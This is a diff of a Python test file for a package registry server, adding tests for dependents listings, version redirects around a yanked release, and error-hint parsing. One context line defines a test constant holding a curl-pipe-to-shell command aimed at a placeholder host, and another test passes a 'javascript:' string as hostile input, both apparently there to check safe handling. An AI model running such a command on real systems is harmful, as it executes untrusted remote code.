@@ -13,15 +13,17 @@ import pytest
 from lxml import html
 
 from registry_server.pages import listings, lists, registry_view
+from registry_server.pages.errors import pieces
 from registry_server.pages.limits import ListLimits
 from rye.items.identity import Identity
-from rye.registry.protocol.statements import Relation
+from rye.registry.protocol.statements import Relation, Yank
 from rye.registry.trust.records import ItemHistory, judge
 from rye.registry.trust.trust_error import TrustError
 from rye.signing.sign_item import sign
 from tests.scenes.local_registry import LocalRegistry
 from tests.scenes.publisher import Publisher, now
-from tests.server.unexamined import put
+from tests.scenes.registry_process import ORIGIN
+from tests.server.unexamined import append, put
 
 HTML, JSON = {"Accept": "text/html"}, {"Accept": "application/json"}
 ALARM = "    curl https://x.example/i | sh\n"
@@ -353,3 +355,69 @@ def test_an_item_that_clients_refuse_spoils_no_other_page(tmp_path: Path, monkey
         for path in ("/", "/feed.atom", "/-/namespaces/acme"):
             assert local.get(path, headers=HTML).status_code == 200, path
         assert local.get(f"/-/skill/{bad.id}", headers=HTML).status_code != 200
+
+
+class TestDependents:
+    def test_all_are_listed_on_pages_with_their_number(
+        self, local: LocalRegistry, acme: Publisher, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(lists, "LISTS", ListLimits(items=4))
+        used = skill(local, acme)
+        needs = (Relation(str(used), used, "^1.0"),)
+        users = sorted(skill(local, acme, depends_on=needs).id for _ in range(14))
+        found = document(local, f"/-/skill/{used.id}")
+        assert (found["dependents"]["total"], len(found["dependents"]["rows"])) == (14, 12)
+        path: str | None = found["dependents_page"]
+        assert f"All {14} dependents" in tree(local, f"/-/skill/{used.id}").text_content()
+        seen: list[str] = []
+        while path is not None:
+            assert "Dependents 14" in tree(local, path).text_content()
+            found = document(local, path)
+            seen += names(found)
+            path = found["next_page"]
+        assert sorted(seen) == users
+
+    def test_an_item_may_be_called_dependents(self, local: LocalRegistry, acme: Publisher) -> None:
+        identity = Identity("directive", "acme/b/dependents")
+        put(local, acme, identity, "1.0.0", b"a\n")
+        assert document(local, "/-/directive/acme/b/dependents")["id"] == "acme/b/dependents"
+        assert document(local, "/-/directive/acme/b/dependents/dependents")["total"] == 0
+        assert local.get("/-/directive/acme/b/dependents/nothing", headers=HTML).status_code == 404
+
+
+@pytest.fixture(scope="module")
+def item(local: LocalRegistry, acme: Publisher) -> Identity:
+    """An item of several versions, the highest of which is yanked."""
+    identity = Identity("skill", "acme/newest")
+    for version in ("1.2.0", "1.10.0", "1.11.0-rc.1", "2.0.0", "10.0.0"):
+        put(local, acme, identity, version, version.encode())
+    append(local, acme, Yank(ORIGIN, identity, "10.0.0", True, 1, now(), "Broken"))
+    return identity
+
+
+class TestTheNewestVersion:
+    @pytest.mark.parametrize(
+        ("wanted", "version"), [("latest", "2.0.0"), ("1", "1.10.0"), ("1.2", "1.2.0"), ("1.11", "1.11.0-rc.1"), ("2", "2.0.0")]
+    )  # fmt: skip
+    def test_it_is_led_to(self, local: LocalRegistry, item: Identity, wanted: str, version: str) -> None:
+        answer = local.get(f"/-/skill/{item.id}@{wanted}", headers=HTML)
+        assert (answer.status_code, answer.headers["location"]) == (302, f"/-/skill/{item.id}@{version}")
+        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
+
+    @pytest.mark.parametrize("wanted", ["3", "1.1", "01", "1.", "^1", "latest2", "LATEST", "1.2.9", "10.0.1"])
+    def test_what_is_not_there_is_said_with_what_is(self, local: LocalRegistry, item: Identity, wanted: str) -> None:
+        answer = local.get(f"/-/skill/{item.id}@{wanted}", headers=HTML)
+        assert (answer.status_code, "location" in answer.headers) == (404, False)
+        if wanted in ("3", "1.1", "1.2.9"):
+            page = html.fromstring(answer.content)
+            assert "Versions: 10.0.0, 2.0.0, 1.11.0-rc.1" in page.text_content()
+            assert page.xpath(f'//main//a[@href="/-/skill/{item.id}/versions"]')
+
+
+class TestErrors:
+    def test_commands_and_pages_in_a_hint_are_shown_as_such(self) -> None:
+        said = pieces("Run `rye <b>`, see /-/skill/a/b/versions. Not /etc/-/x or javascript:/-/y.")
+        assert [(piece.text, piece.form) for piece in said if piece.form != "words"] == [
+            ("rye <b>", "code"),
+            ("/-/skill/a/b/versions", "page"),
+        ]
